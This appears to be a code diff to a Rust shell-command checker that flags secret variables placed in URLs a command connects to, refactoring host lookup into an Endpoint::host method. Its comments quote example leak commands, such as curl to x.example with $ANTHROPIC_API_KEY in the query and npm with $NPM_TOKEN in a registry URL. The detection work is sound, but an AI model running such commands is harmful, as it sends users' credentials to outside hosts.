@@ -163,7 +163,7 @@ fn secret_var_in(t: &str) -> Option<String> {
 /// "https://x.example/?k=$ANTHROPIC_API_KEY"`, `npm i --registry "https://x/$NPM_TOKEN"`): the
 /// host receives it as a name does its DNS server (in the user part, `https://user:$TOKEN@host`,
 /// it signs in, which asks as a header does; so does a host on this machine). The places are
-/// [`endpoint_words`]; their hosts are [`destination_hosts`], and a host known only at run time
+/// [`endpoint_words`]; their hosts are [`Endpoint::host`], and a host known only at run time
 /// is left to the ask below.
 fn misdirected_secret(u: &Unit, holders: &[(String, String)]) -> Option<String> {
     let p = prog(u)?;
@@ -202,7 +202,7 @@ fn misdirected_secret(u: &Unit, holders: &[(String, String)]) -> Option<String> 
         return None;
     }
     let endpoints = endpoint_words(u, p);
-    let hosts = destination_hosts(u, p);
+    let hosts: Vec<Option<String>> = endpoints.iter().map(Endpoint::host).collect();
     for (x, name, secret) in &found {
         // A copy that opens the word (`U="https://api.github.com/?t=$GITHUB_TOKEN"; curl
         // "$U"`) may be the whole URL: where in it the secret sits is not known here.
@@ -221,7 +221,7 @@ fn misdirected_secret(u: &Unit, holders: &[(String, String)]) -> Option<String> 
         let Some(domains) = crate::programs::secret_var_domains(secret) else {
             // A secret of no known service in the path or query of where the program connects.
             if let Some(e) = place.filter(|e| references(e.rest, name))
-                && !static_host(host_of_authority(e.authority)).is_some_and(|h| on_this_machine(&h))
+                && !e.host().is_some_and(|h| on_this_machine(&h))
             {
                 return Some(format!(
                     "puts the variable {secret} into `{}`, where `{p}` connects: the host it names receives it",
@@ -404,13 +404,11 @@ fn split_at_path<'a>(a: &'a Arg, t: &'a str) -> Endpoint<'a> {
     }
 }
 
-/// The hosts `u` (program `p`) connects to: the host of each of its [`endpoint_words`],
-/// `None` for a host known only at run time.
-fn destination_hosts(u: &Unit, p: &str) -> Vec<Option<String>> {
-    endpoint_words(u, p)
-        .iter()
-        .map(|e| static_host(host_of_authority(e.authority)))
-        .collect()
+impl Endpoint<'_> {
+    /// The host it names, `None` when it is known only at run time.
+    fn host(&self) -> Option<String> {
+        static_host(host_of_authority(self.authority))
+    }
 }
 
 /// The host part of the first URL in a word's text (`https://u:p@api.github.com:443/x` →
